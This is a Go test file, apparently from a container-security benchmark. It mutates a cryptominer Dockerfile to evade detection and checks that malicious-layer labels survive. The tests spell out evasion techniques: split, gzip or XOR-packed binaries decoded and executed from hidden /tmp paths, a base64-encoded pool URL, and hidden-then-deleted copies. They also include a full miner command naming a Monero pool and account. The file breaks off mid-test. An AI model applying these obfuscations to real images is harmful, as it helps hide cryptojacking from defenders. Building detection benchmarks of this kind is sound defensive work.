package mutations

import (
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"maps"
	"math/rand/v2"
	"net"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/moby/buildkit/frontend/dockerfile/parser"

	"github.com/strata-sec/strata/corpus"
	"github.com/strata-sec/strata/corpus/benign"
	"github.com/strata-sec/strata/corpus/drupal"
	dfile "github.com/strata-sec/strata/internal/dockerfile"
)

// ---------------------------------------------------------------------------
// Fixtures

// fakeMinerd stands in for the corpus's minerd in the fixture context: an
// ELF magic and 64 KiB of bytes from a fixed stream, the same on every
// machine (so the goldens' hashes are), never run.
func fakeMinerd() []byte {
	r := rand.New(rand.NewPCG(0x6d696e657264, 1))
	return append([]byte("\x7fELF\x02\x01\x01\x00"), randBytes(r, 64<<10)...)
}

// fixtureDate is the mtime of every fixture file (drupal's SourceDate).
var fixtureDate = drupal.SourceDate

// payloadFixture is a Payload on a private copy of a context: files maps
// slash paths to contents (a trailing "*" in the name marks mode 0755).
// minerd, when present, is a hard link to a file in cache, as the
// harness's contexts link .deb files, so a mutation that writes through a
// link is caught (cacheIntact).
type payloadFixture struct {
	p     *Payload
	cache string
	orig  map[string]fileState
}

func newPayloadFixture(t *testing.T, df []byte, files map[string][]byte) *payloadFixture {
	t.Helper()
	root := t.TempDir()
	dir := filepath.Join(root, "ctx")
	cache := filepath.Join(root, "cache")
	for _, d := range []string{dir, cache} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, data := range files {
		mode := os.FileMode(0o644)
		if n, ok := strings.CutSuffix(name, "*"); ok {
			name, mode = n, 0o755
		}
		p := filepath.Join(dir, filepath.FromSlash(name))
		if name == "minerd" {
			c := filepath.Join(cache, "minerd")
			if err := corpus.WriteFile(c, data, mode, fixtureDate); err != nil {
				t.Fatal(err)
			}
			if err := os.Link(c, p); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if err := corpus.WriteFile(p, data, mode, fixtureDate); err != nil {
			t.Fatal(err)
		}
	}
	setDirTimes(t, dir)
	epoch := time.Unix(1700000000, 0).UTC() // the harness's DefaultEpoch
	f := &payloadFixture{p: &Payload{Dockerfile: df, Dir: dir, Epoch: &epoch}, cache: cache}
	f.orig = snapshot(t, dir)
	return f
}

func setDirTimes(t *testing.T, dir string) {
	t.Helper()
	var dirs []string
	_ = filepath.WalkDir(dir, func(p string, e os.DirEntry, err error) error {
		if err == nil && e.IsDir() {
			dirs = append(dirs, p)
		}
		return nil
	})
	for _, d := range dirs {
		if err := os.Chtimes(d, fixtureDate, fixtureDate); err != nil {
			t.Fatal(err)
		}
	}
}

func drupalFixture(t *testing.T, bits string) *payloadFixture {
	t.Helper()
	return newPayloadFixture(t, caseDockerfile(t, bits), map[string][]byte{
		"minerd*":       fakeMinerd(),
		"app/index.php": []byte("<?php echo 'drupal';\n"),
	})
}

// cacheIntact checks the hard-linked cache file still has its content.
func (f *payloadFixture) cacheIntact(t *testing.T) {
	t.Helper()
	if f.cache == "" {
		return
	}
	b, err := os.ReadFile(filepath.Join(f.cache, "minerd"))
	if err == nil && !bytes.Equal(b, fakeMinerd()) {
		t.Error("the mutation wrote through a hard link into the cache (it must replace files)")
	}
}

type fileState struct {
	sum   string
	size  int64
	mode  os.FileMode
	mtime time.Time
	dir   bool
}

func snapshot(t *testing.T, dir string) map[string]fileState {
	t.Helper()
	out := map[string]fileState{}
	err := filepath.WalkDir(dir, func(p string, e os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		fi, err := e.Info()
		if err != nil {
			return err
		}
		st := fileState{mode: fi.Mode(), mtime: fi.ModTime(), dir: e.IsDir()}
		if !e.IsDir() {
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			s := sha256.Sum256(b)
			st.sum, st.size = hex.EncodeToString(s[:]), int64(len(b))
		}
		out[filepath.ToSlash(rel)] = st
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// contextChanges lists what changed between two snapshots, one line per
// file: "+ added", "- removed", "~ changed", with sha256, size and mode.
func contextChanges(before, after map[string]fileState) []string {
	var out []string
	desc := func(s fileState) string {
		if s.dir {
			return fmt.Sprintf("dir %v", s.mode)
		}
		return fmt.Sprintf("sha256:%s %d %v", s.sum, s.size, s.mode)
	}
	for p, a := range after {
		b, ok := before[p]
		switch {
		case !ok:
			out = append(out, "+ "+p+" "+desc(a))
		case b.sum != a.sum || b.mode != a.mode || b.dir != a.dir:
			out = append(out, "~ "+p+" "+desc(a))
		}
	}
	for p := range before {
		if _, ok := after[p]; !ok {
			out = append(out, "- "+p)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i][2:] < out[j][2:] })
	return out
}

func payloadMutations() []PayloadMutation {
	var out []PayloadMutation
	for _, m := range All() {
		if pm, ok := m.(PayloadMutation); ok {
			out = append(out, pm)
		}
	}
	return out
}

func getPayload(t *testing.T, name string) PayloadMutation {
	t.Helper()
	m, err := Get(name)
	if err != nil {
		t.Fatal(err)
	}
	return m.(PayloadMutation)
}

// ---------------------------------------------------------------------------
// Goldens

// TestPayloadGolden pins every payload mutation's Dockerfile and context
// changes on case 111 with the fixture context, seeds 1 and 2:
// testdata/<type>/case-111-seed-<n>.Dockerfile.golden and
// .context.golden (the epoch and each added, removed or changed file with
// its sha256). go test ./mutations -run TestPayloadGolden -update rewrites
// them.
func TestPayloadGolden(t *testing.T) {
	for _, m := range payloadMutations() {
		for _, seed := range []int64{1, 2} {
			t.Run(fmt.Sprintf("%s/%d", m.Name(), seed), func(t *testing.T) {
				f := drupalFixture(t, "111")
				src, before := f.p.Dockerfile, *f.p.Epoch
				if err := ApplyPayload(m, f.p, seed, Env{ServerURL: testServerURL}); err != nil {
					t.Fatal(err)
				}
				checkPayload(t, src, f)
				ctx := "epoch: unchanged\n"
				if !f.p.Epoch.Equal(before) {
					ctx = "epoch: " + f.p.Epoch.Format(time.RFC3339) + "\n"
				}
				for _, l := range contextChanges(f.orig, snapshot(t, f.p.Dir)) {
					ctx += l + "\n"
				}
				stem := filepath.Join("testdata", m.Name(), fmt.Sprintf("case-111-seed-%d", seed))
				for _, g := range []struct {
					file string
					got  []byte
				}{{stem + ".Dockerfile.golden", f.p.Dockerfile}, {stem + ".context.golden", []byte(ctx)}} {
					if *update {
						if err := os.MkdirAll(filepath.Dir(g.file), 0o755); err != nil {
							t.Fatal(err)
						}
						if err := os.WriteFile(g.file, g.got, 0o644); err != nil {
							t.Fatal(err)
						}
						continue
					}
					want, err := os.ReadFile(g.file)
					if err != nil {
						t.Fatalf("%v (run go test ./mutations -update)", err)
					}
					if !bytes.Equal(g.got, want) {
						t.Errorf("output differs from %s (run go test ./mutations -update if intended)\n--- got ---\n%s", g.file, g.got)
					}
				}
			})
		}
	}
}

// checkPayload checks what every payload mutation promises: the result
// parses, the stages before the final one are byte-identical, every
// marker tag of the final image survives, no temporary file is left, and
// no hard-linked file was written through.
func checkPayload(t *testing.T, orig []byte, f *payloadFixture) {
	t.Helper()
	got := f.p.Dockerfile
	od, err := parseDockerfile(orig)
	if err != nil {
		t.Fatal(err)
	}
	gd, err := parseDockerfile(got)
	if err != nil {
		t.Fatalf("mutated Dockerfile does not parse: %v\n%s", err, got)
	}
	prefix := strings.Join(od.Lines[:od.beforeFinalStage()], "")
	if !bytes.HasPrefix(got, []byte(prefix)) {
		t.Error("the stages before the final stage changed")
	}
	tags := func(d *dockerfile) []string {
		seen := map[string]bool{}
		for _, st := range d.Chain() {
			for _, n := range st.Instructions {
				if m := dfile.Marker(n); m != "" {
					seen[m] = true
				}
			}
		}
		return slices.Sorted(maps.Keys(seen))
	}
	if o, g := tags(od), tags(gd); !slices.Equal(o, g) {
		t.Errorf("marker tags %v, want %v", g, o)
	}
	for p := range snapshot(t, f.p.Dir) {
		if strings.Contains(p, ".strata-tmp-") {
			t.Errorf("temporary file %s left in the context", p)
		}
	}
	f.cacheIntact(t)
}

// ---------------------------------------------------------------------------
// Determinism and seeds

func TestPayloadDeterministicAndSeeded(t *testing.T) {
	for _, m := range payloadMutations() {
		t.Run(m.Name(), func(t *testing.T) {
			outs := map[string]bool{}
			for seed := int64(1); seed <= 12; seed++ {
				var res [2]string
				for i := range res {
					f := drupalFixture(t, "111")
					if err := ApplyPayload(m, f.p, seed, Env{}); err != nil {
						t.Fatal(err)
					}
					var b strings.Builder
					b.Write(f.p.Dockerfile)
					fmt.Fprintf(&b, "\nepoch %v\n", f.p.Epoch)
					snap := snapshot(t, f.p.Dir)
					for _, k := range slices.Sorted(maps.Keys(snap)) {
						s := snap[k]
						fmt.Fprintf(&b, "%s %s %v %v\n", k, s.sum, s.mode, s.mtime.UTC())
					}
					res[i] = b.String()
				}
				if res[0] != res[1] {
					t.Fatalf("seed %d: two runs on the same input differ (Dockerfile, context files, modes, mtimes or epoch)", seed)
				}
				outs[res[0]] = true
			}
			if len(outs) < 8 {
				t.Errorf("12 seeds gave only %d distinct outputs", len(outs))
			}
		})
	}
}

// ---------------------------------------------------------------------------
// What each type claims

// groundTruth runs corpus.GroundTruth on df with a history made up for
// it (one base layer; RUN, ADD, COPY and WORKDIR make layers) and returns
// the marker tag of every malicious instruction of the final image by its
// text.
func groundTruth(t *testing.T, df []byte) map[string]string {
	t.Helper()
	d, err := parseDockerfile(df)
	if err != nil {
		t.Fatal(err)
	}
	var chain []*parser.Node
	for _, st := range d.Chain() {
		chain = append(chain, st.Instructions...)
	}
	cf := &v1.ConfigFile{History: []v1.History{{CreatedBy: "base"}}, RootFS: v1.RootFS{DiffIDs: []v1.Hash{{}}}}
	layerOf := map[int]string{}
	for _, n := range chain {
		layer := dfile.Is(n, "run") || dfile.Is(n, "add") || dfile.Is(n, "copy") || dfile.Is(n, "workdir")
		if layer {
			layerOf[len(cf.RootFS.DiffIDs)] = n.Original
			cf.RootFS.DiffIDs = append(cf.RootFS.DiffIDs, v1.Hash{})
		}
		cf.History = append(cf.History, v1.History{CreatedBy: n.Original, EmptyLayer: !layer})
	}
	tr, err := corpus.GroundTruth(df, cf, 1)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, l := range tr.MaliciousLayers {
		out[layerOf[l]] = tr.Tags[l]
	}
	for _, c := range tr.MaliciousConfig {
		out[c] = "config"
	}
	return out
}

// finalInstrs are the final stage's instructions after a mutation.
func finalInstrs(t *testing.T, df []byte) []*parser.Node {
	t.Helper()
	d, err := parseDockerfile(df)
	if err != nil {
		t.Fatal(err)
	}
	return d.Final().Instructions
}

func findInstr(nodes []*parser.Node, instr string) []*parser.Node {
	var out []*parser.Node
	for _, n := range nodes {
		if dfile.Is(n, instr) {
			out = append(out, n)
		}
	}
	return out
}

func sha(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:]) }

const (
	minerdDest = "/bin/minerd"
	poolURL    = "stratum+tcp://xmr.pool.minergate.com:45560"
	poolArgs   = `"-a", "cryptonight", "-o", "stratum+tcp://xmr.pool.minergate.com:45560", "-u", "trudly@outlook.com", "-p", "x", "-t", "1"`
)

var origArgs = []string{"-a", "cryptonight", "-o", poolURL, "-u", "trudly@outlook.com", "-p", "x", "-t", "1"}

// entrypoint is the mutated image's ENTRYPOINT.
func entrypoint(t *testing.T, df []byte) *launch {
	t.Helper()
	d, err := parseDockerfile(df)
	if err != nil {
		t.Fatal(err)
	}
	ep, _ := d.launches()
	if ep == nil {
		t.Fatal("no ENTRYPOINT")
	}
	return ep
}

// addsOf maps the destinations of the final stage's ADD/COPY to their
// instruction.
func addsOf(nodes []*parser.Node) map[string]addCopy {
	out := map[string]addCopy{}
	for i, n := range nodes {
		if a, ok := parseAddCopy(n, i); ok {
			out[a.dest] = a
		}
	}
	return out
}

// TestPayloadClaims checks, on case 111 and several seeds, that each type
// changes what it says it changes, and that ground truth follows: the
// instructions derived from a marked one are malicious, added helpers are
// not.
func TestPayloadClaims(t *testing.T) {
	minerd := fakeMinerd()
	docNets := []string{"192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24"}
	tests := []struct {
		name  string
		check func(t *testing.T, f *payloadFixture, truth map[string]string)
	}{
		{"pad-binary", func(t *testing.T, f *payloadFixture, _ map[string]string) {
			b, _ := os.ReadFile(filepath.Join(f.p.Dir, "minerd"))
			if !bytes.HasPrefix(b, minerd) || len(b)-len(minerd) < 1024 || len(b)-len(minerd) > 64<<10 {
				t.Errorf("minerd is %d bytes, want the original %d plus 1-64 KiB", len(b), len(minerd))
			}
			if sha(b) == sha(minerd) {
				t.Error("hash unchanged")
			}
			if !bytes.Equal(f.p.Dockerfile, caseDockerfile(t, "111")) {
				t.Error("Dockerfile changed")
			}
		}},
		{"rename-binary", func(t *testing.T, f *payloadFixture, truth map[string]string) {
			nodes := finalInstrs(t, f.p.Dockerfile)
			var dest string
			for d, a := range addsOf(nodes) {
				if a.cmd == "ADD" {
					dest = d
				}
			}
			ok := regexp.MustCompile(`^(/usr/bin|/usr/local/bin|/usr/sbin|/var/lib/[a-z0-9-]+|/tmp/\.[A-Za-z0-9-]+)/[a-z0-9_-]+$`)
			if !ok.MatchString(dest) || dest == minerdDest {
				t.Errorf("new path %q", dest)
			}
			for _, n := range nodes {
				if _, k := replacePath(n.Original, minerdDest, "X"); k > 0 {
					t.Errorf("old path still in %q", n.Original)
				}
			}
			if ep := entrypoint(t, f.p.Dockerfile); ep.program() != dest || !slices.Equal(ep.args[1:], origArgs) {
				t.Errorf("ENTRYPOINT %q, want %s with the original args", ep.args, dest)
			}
			if _, err := os.Stat(filepath.Join(f.p.Dir, "minerd")); err == nil {
				t.Error("context file minerd not renamed")
			}
			b, err := os.ReadFile(filepath.Join(f.p.Dir, path.Base(dest)))
			if err != nil || !bytes.Equal(b, minerd) {
				t.Errorf("renamed context file %s: %v", path.Base(dest), err)
			}
			if truth["ADD --chmod=755 "+path.Base(dest)+" "+dest] != "L9" {
				t.Errorf("the renamed ADD is not malicious: %v", truth)
			}
		}},
		{"split-payload", func(t *testing.T, f *payloadFixture, truth map[string]string) {
			nodes := finalInstrs(t, f.p.Dockerfile)
			ep := entrypoint(t, f.p.Dockerfile)
			if len(ep.args) < 4 || ep.args[0] != "/bin/sh" || ep.args[1] != "-c" || ep.args[3] != "sh" || !slices.Equal(ep.args[4:], origArgs) {
				t.Fatalf("ENTRYPOINT %q", ep.args)
			}
			m := regexp.MustCompile(`^cat ((?:\S+ )+)> (/tmp/\.[a-z]+) && chmod 755 (/tmp/\.[a-z]+) && exec (/tmp/\.[a-z]+) "\$@"$`).FindStringSubmatch(ep.args[2])
			if m == nil || m[2] != m[3] || m[3] != m[4] {
				t.Fatalf("script %q", ep.args[2])
			}
			parts := strings.Fields(m[1])
			if len(parts) < 2 || len(parts) > 3 {
				t.Errorf("%d parts", len(parts))
			}
			adds := addsOf(nodes)
			var whole []byte
			for _, p := range parts {
				a, ok := adds[p]
				if !ok || a.cmd != "ADD" || !slices.Equal(a.flags, []string{"--chmod=755"}) {
					t.Fatalf("part %s: no ADD --chmod=755 of it", p)
				}
				b, err := os.ReadFile(filepath.Join(f.p.Dir, a.srcs[0]))
				if err != nil {
					t.Fatal(err)
				}
				if len(b) == 0 || sha(b) == sha(minerd) {
					t.Errorf("part %s is empty or the whole file", p)
				}
				whole = append(whole, b...)
				if truth[a.node.Original] != "L9" {
					t.Errorf("part ADD %q not malicious (L9)", a.node.Original)
				}
			}
			if !bytes.Equal(whole, minerd) {
				t.Error("the parts do not concatenate to the original")
			}
			if _, ok := adds[minerdDest]; ok {
				t.Error("the whole file is still added")
			}
			if truth[ep.node.Original] != "config" {
				t.Error("the new ENTRYPOINT is not malicious config")
			}
		}},
		{"compress-payload", func(t *testing.T, f *payloadFixture, truth map[string]string) {
			ep := entrypoint(t, f.p.Dockerfile)
			if len(ep.args) < 4 || ep.args[0] != "/bin/sh" || !slices.Equal(ep.args[4:], origArgs) {
				t.Fatalf("ENTRYPOINT %q", ep.args)
			}
			m := regexp.MustCompile(`^(?:gzip -dc (\S+)|tr '\\000-\\377' '((?:\\[0-7]{3}-\\[0-7]{3}){16})' < (\S+) \| gzip -dc) > (/tmp/\.[a-z]+) && chmod 755 (/tmp/\.[a-z]+) && exec (/tmp/\.[a-z]+) "\$@"$`).FindStringSubmatch(ep.args[2])
			if m == nil {
				t.Fatalf("script %q", ep.args[2])
			}
			blobPath := m[1] + m[3]
			a, ok := addsOf(finalInstrs(t, f.p.Dockerfile))[blobPath]
			if !ok || a.cmd != "ADD" {
				t.Fatalf("blob %s is not ADDed", blobPath)
			}
			blob, err := os.ReadFile(filepath.Join(f.p.Dir, a.srcs[0]))
			if err != nil {
				t.Fatal(err)
			}
			if m[2] != "" { // XOR: the key maps \000 to the first range's start
				var key byte
				fmt.Sscanf(m[2][1:4], "%o", &key)
				for i := range blob {
					blob[i] ^= key
				}
			}
			zr, err := gzip.NewReader(bytes.NewReader(blob))
			if err != nil {
				t.Fatal(err)
			}
			if zr.Name != "" || !zr.ModTime.IsZero() && zr.ModTime.Unix() != 0 {
				t.Errorf("gzip header has name %q, mtime %v", zr.Name, zr.ModTime)
			}
			out, err := io.ReadAll(zr)
			if err != nil || !bytes.Equal(out, minerd) {
				t.Errorf("blob does not decompress to the original: %v", err)
			}
			if truth[a.node.Original] != "L9" {
				t.Error("the blob's ADD is not malicious")
			}
			if _, err := os.Stat(filepath.Join(f.p.Dir, "minerd")); err == nil {
				t.Error("plain minerd left in the context")
			}
		}},
		{"wrapper-script", func(t *testing.T, f *payloadFixture, truth map[string]string) {
			ep := entrypoint(t, f.p.Dockerfile)
			if len(ep.args) != 1 || !regexp.MustCompile(`^(/usr/local/bin|/opt/[a-z]+)/[a-z-]+-[a-z0-9]+(\.sh)?$`).MatchString(ep.args[0]) {
				t.Fatalf("ENTRYPOINT %q", ep.args)
			}
			a, ok := addsOf(finalInstrs(t, f.p.Dockerfile))[ep.args[0]]
			if !ok || a.cmd != "COPY" || !slices.Equal(a.flags, []string{"--chmod=755"}) {
				t.Fatalf("the script is not COPYed --chmod=755")
			}
			b, err := os.ReadFile(filepath.Join(f.p.Dir, a.srcs[0]))
			if err != nil {
				t.Fatal(err)
			}
			want := "#!/bin/sh\nexec /bin/minerd -a cryptonight -o stratum+tcp://xmr.pool.minergate.com:45560 -u trudly@outlook.com -p x -t 1 \"$@\"\n"
			if string(b) != want {
				t.Errorf("script\n%s\nwant\n%s", b, want)
			}
			if truth[a.node.Original] != "L9" || truth[ep.node.Original] != "config" {
				t.Errorf("script COPY or ENTRYPOINT not malicious: %v", truth)
			}
		}},
		{"hide-and-delete", func(t *testing.T, f *payloadFixture, truth map[string]string) {
			nodes := finalInstrs(t, f.p.Dockerfile)
			var copyAt, origAt, rmAt = -1, -1, -1
			var hidden string
			for i, n := range nodes {
				a, ok := parseAddCopy(n, i)
				switch {
				case ok && a.dest == minerdDest:
					origAt = i
				case ok:
					copyAt, hidden = i, a.dest
					if !slices.Equal(a.flags, []string{"--chmod=755"}) || a.srcs[0] != "minerd" {
						t.Errorf("copy %q", n.Original)
					}
					if truth[n.Original] != "L9" {
						t.Error("the hidden copy is not malicious")
					}
				case dfile.Is(n, "run") && strings.HasPrefix(n.Original, "RUN rm -f "):
					rmAt = i
					if truth[n.Original] != "" {
						t.Error("the rm is marked malicious")
					}
				}
			}
			if !regexp.MustCompile(`^(/var/tmp/\.[a-z]+|/(usr/share|var/cache|var/lib)/\.[a-z]+/[a-z]+)$`).MatchString(hidden) {
				t.Errorf("hidden path %q", hidden)
			}
			if copyAt < 0 || rmAt < copyAt || copyAt > origAt {
				t.Errorf("copy at %d, rm at %d, original at %d", copyAt, rmAt, origAt)
			}
			if rmAt >= 0 && nodes[rmAt].Original != "RUN rm -f "+hidden {
				t.Errorf("rm %q does not delete %s", nodes[rmAt].Original, hidden)
			}
		}},
		{"pool-env", func(t *testing.T, f *payloadFixture, truth map[string]string) {
			nodes := finalInstrs(t, f.p.Dockerfile)
			envs := findInstr(nodes, "env")
			if len(envs) != 1 || envs[0].Next == nil || envs[0].Next.Next == nil {
				t.Fatalf("ENV %v", envs)
			}
			name, val := envs[0].Next.Value, envs[0].Next.Next.Value
			if dec, err := base64.StdEncoding.DecodeString(val); err != nil || string(dec) != poolURL {
				t.Errorf("ENV %s=%s does not hold base64 of %s", name, val, poolURL)
			}
			ep := entrypoint(t, f.p.Dockerfile)
			want := `exec /bin/minerd -a cryptonight -o "$(echo "$` + name + `" | base64 -d)" -u trudly@outlook.com -p x -t 1 "$@"`
			if !slices.Equal(ep.args, []string{"/bin/sh", "-c", want, "sh"}) {
				t.Errorf("ENTRYPOINT %q, want the script %q", ep.args, want)
			}
			for _, n := range nodes {
				if strings.Contains(n.Original, "minergate") {
					t.Errorf("the pool is still in %q", n.Original)
				}
			}
			if truth[envs[0].Original] != "config" || truth[ep.node.Original] != "config" {
				t.Errorf("ENV or ENTRYPOINT not malicious: %v", truth)
			}
		}},
		{"pool-raw-ip", func(t *testing.T, f *payloadFixture, _ map[string]string) {
			ep := entrypoint(t, f.p.Dockerfile)
			m := regexp.MustCompile(`^stratum\+tcp://([0-9.]+):45560$`).FindStringSubmatch(ep.args[4])
			if m == nil {
				t.Fatalf("-o %q", ep.args[4])
			}
			ip := net.ParseIP(m[1]).To4()
			in := false
			for _, c := range docNets {
				_, n, _ := net.ParseCIDR(c)
				in = in || (ip != nil && n.Contains(ip) && ip[3] != 0 && ip[3] != 255)
			}
			if !in {
				t.Errorf("%s is not a host in RFC 5737's ranges", m[1])
			}
			if want := append([]string{minerdDest}, origArgs...); !slices.Equal(ep.args[:4], want[:4]) || !slices.Equal(ep.args[5:], want[5:]) {
				t.Errorf("other args changed: %q", ep.args)
			}
		}},
		{"pool-unlisted-domain", func(t *testing.T, f *payloadFixture, _ map[string]string) {
			ep := entrypoint(t, f.p.Dockerfile)
			if !regexp.MustCompile(`^stratum\+tcp://[a-z]{6,12}\.example\.(com|net|org):45560$`).MatchString(ep.args[4]) {
				t.Errorf("-o %q", ep.args[4])
			}
		}},
		{"timestamp-epoch", func(t *testing.T, f *payloadFixture, _ map[string]string) {
			if f.p.Epoch.Equal(time.Unix(1700000000, 0)) || f.p.Epoch.Before(epochRange[0]) || !f.p.Epoch.Before(epochRange[1]) {
				t.Errorf("epoch %v", f.p.Epoch)
			}
			if !bytes.Equal(f.p.Dockerfile, caseDockerfile(t, "111")) {
				t.Error("Dockerfile changed")
			}
		}},
		{"typosquat-label", func(t *testing.T, f *payloadFixture, truth map[string]string) {
			labels := findInstr(finalInstrs(t, f.p.Dockerfile), "label")
			if len(labels) != 1 {
				t.Fatalf("%d LABELs", len(labels))
			}
			m := regexp.MustCompile(`^LABEL org\.opencontainers\.image\.source="https://github\.com/([a-z0-9-]+)/([a-z]+)" org\.opencontainers\.image\.title="([a-z]+)" org\.opencontainers\.image\.vendor="([a-z0-9-]+)"$`).FindStringSubmatch(labels[0].Original)
			if m == nil || m[1] == m[2] || m[2] != m[3] || m[1] != m[4] || !slices.Contains(popularImages, m[2]) {
				t.Errorf("label %q", labels[0].Original)
			}
			if truth[labels[0].Original] != "" {
				t.Error("the label is marked malicious")
			}
		}},
	}
	if len(tests) != len(payloadTypes) {
		t.Errorf("%d types checked, %d registered", len(tests), len(payloadTypes))
	}
	for _, tt := range tests {
		for seed := int64(1); seed <= 8; seed++ {
			t.Run(fmt.Sprintf("%s/%d", tt.name, seed), func(t *testing.T) {
				f := drupalFixture(t, "111")
				src := f.p.Dockerfile
				if err := ApplyPayload(getPayload(t, tt.name), f.p, seed, Env{}); err != nil {
					t.Fatal(err)
				}
				checkPayload(t, src, f)
				truth := groundTruth(t, f.p.Dockerfile)
				// The original malicious content keeps its tags: L8 and
				// L10 untouched, L9 on something.
				var tags []string
				for _, tag := range truth {
					tags = append(tags, tag)
				}
				for _, want := range []string{"L8", "L9", "L10"} {
					if !slices.Contains(tags, want) {
						t.Errorf("no malicious layer tagged %s: %v", want, truth)
					}
				}
				tt.check(t, f, truth)
			})
		}
	}
}

// TestTypoAlwaysDiffers: every popular name gets a different owner name
// that GitHub accepts.
func TestTypoAlwaysDiffers(t *testing.T) {
	valid := regexp.MustCompile(`^[a-z0-9]+(-[a-z0-9]+)*$`)
	for _, name := range popularImages {
		for seed := range 50 {
			got := typo(name, rand.New(rand.NewPCG(uint64(seed), 7)))
			if got == name || !valid.MatchString(got) {
				t.Errorf("typo(%q) = %q", name, got)
			}
		}
	}
}

// TestXorRangesDecode checks the tr set against Go's XOR for every key.
func TestXorRangesDecode(t *testing.T) {
	re := regexp.MustCompile(`\\([0-7]{3})-\\([0-7]{3})`)
	for k := 1; k < 16; k++ {
		key := byte(k << 4)
		var set2 []byte
		for _, m := range re.FindAllStringSubmatch(xorRanges(key), -1) {
			var lo, hi int
			fmt.Sscanf(m[1], "%o", &lo)
			fmt.Sscanf(m[2], "%o", &hi)
			for c := lo; c <= hi; c++ {
				set2 = append(set2, byte(c))
			}
		}
		if len(set2) != 256 {
			t.Fatalf("key %#x: %d values", key, len(set2))
		}
		for c := range 256 {
			if set2[c] != byte(c)^key {
				t.Fatalf("key %#x: %d -> %d, want %d", key, c, set2[c], byte(c)^key)
			}
		}
	}
}

// ---------------------------------------------------------------------------
// The rewritten commands run

// progScript prints each of its arguments in brackets, one per line.
const progScript = "#!/bin/sh\nfor a in \"$@\"; do printf '[%s]\\n' \"$a\"; done\n"

// runImage runs the final image's ENTRYPOINT + CMD (what `docker run`
// without arguments runs) on the host with /bin/sh: every file the final
// stage ADDs/COPYs from the context is put under a private root at its
// image path, and image paths in the command, scripts and /tmp/.<x> are
// moved under that root. ENV of the final stage is the environment.
func runImage(t *testing.T, f *payloadFixture) string {
	t.Helper()
	d, err := parseDockerfile(f.p.Dockerfile)
	if err != nil {
		t.Fatal(err)
	}
	root := t.TempDir()
	var pairs []string
	type file struct {
		dest string
		data []byte
	}
	var files []file
	env := []string{"PATH=" + root + "/usr/local/bin:/usr/bin:/bin"}
	for i, n := range d.Final().Instructions {
		if a, ok := parseAddCopy(n, i); ok {
			b, err := os.ReadFile(filepath.Join(f.p.Dir, filepath.FromSlash(a.srcs[0])))
			if err != nil {
				t.Fatal(err)
			}
			files = append(files, file{a.dest, b})
			pairs = append(pairs, a.dest, root+a.dest)
		}
		if dfile.Is(n, "env") {
			env = append(env, n.Next.Value+"="+n.Next.Next.Value)
		}
	}
	ep, cmd := d.launches()
	var argv []string
	switch {
	case ep != nil && !ep.json:
		argv = []string{"/bin/sh", "-c", ep.shell}
	case ep != nil:
		argv = ep.args
		if cmd != nil {
			argv = append(slices.Clone(argv), cmd.args...)
		}
	default:
		argv = cmd.args
	}
	for _, tmp := range regexp.MustCompile(`/tmp/\.[a-z]+`).FindAllString(strings.Join(argv, " "), -1) {
		pairs = append(pairs, tmp, root+tmp)
	}
	if err := os.MkdirAll(root+"/tmp", 0o755); err != nil {
		t.Fatal(err)
	}
	r := strings.NewReplacer(pairs...)
	for _, fl := range files {
		data := fl.data
		if bytes.HasPrefix(data, []byte("#!")) {
			data = []byte(r.Replace(string(data)))
		}
		if err := corpus.WriteFile(root+fl.dest, data, 0o755, fixtureDate); err != nil {
			t.Fatal(err)
		}
	}
	for i := range argv {
		argv[i] = r.Replace(argv[i])
	}
	if !strings.Contains(argv[0], "/") { // found through PATH in the image
		argv[0] = root + "/usr/local/bin/" + argv[0]
	}
	c := exec.Command(argv[0], argv[1:]...)
	c.Env = env
	out, err := c.CombinedOutput()
	if err != nil {
		t.Fatalf("%q: %v\n%s", argv, err, out)
	}
	return string(out)
}

// TestPayloadCommandsRun runs the commands split-payload,
// compress-payload (gzip and XOR+gzip), wrapper-script, pool-env and
// rename-binary write, for exec-form ENTRYPOINT + CMD, shell form, and
// a CMD feeding an ENTRYPOINT, and checks the program gets the same
// arguments as before, the CMD's included ("$@").
func TestPayloadCommandsRun(t *testing.T) {
	for _, tool := range []string{"cat", "gzip", "tr", "base64", "chmod"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s not installed", tool)
		}
	}
	head := "FROM debian:bookworm\n# strata:malicious=L9\nCOPY --chmod=755 prog /usr/local/bin/prog\n# strata:malicious=L9\n"
	fixtures := []struct {
		name, df, want string
	}{
		{"exec", `ENTRYPOINT ["/usr/local/bin/prog", "-o", "stratum+tcp://pool.example.net:3333", "a b", "it's", "$HOME", "--url=http://u:p@h.example.org:80/x?y=1&z"]` + "\nCMD [\"c  d\"]\n",
			"[-o]\n[stratum+tcp://pool.example.net:3333]\n[a b]\n[it's]\n[$HOME]\n[--url=http://u:p@h.example.org:80/x?y=1&z]\n[c  d]\n"},
		{"bare name", `ENTRYPOINT ["prog", "-o", "stratum+tcp://pool.example.net:3333"]` + "\n",
			"[-o]\n[stratum+tcp://pool.example.net:3333]\n"},
		{"shell", `ENTRYPOINT exec /usr/local/bin/prog -o stratum+tcp://pool.example.net:3333 "a b"` + "\n",
			"[-o]\n[stratum+tcp://pool.example.net:3333]\n[a b]\n"},
		{"cmd feeds entrypoint", `ENTRYPOINT ["/usr/local/bin/prog", "x"]` + "\nCMD [\"-o\", \"stratum+tcp://pool.example.net:3333\"]\n",
			"[x]\n[-o]\n[stratum+tcp://pool.example.net:3333]\n"},
	}
	for _, fx := range fixtures {
		for _, name := range []string{"split-payload", "compress-payload", "wrapper-script", "pool-env", "rename-binary", "pad-binary", "hide-and-delete"} {
			seen := map[bool]bool{} // compress: XOR or not
			for seed := int64(1); seed <= 6; seed++ {
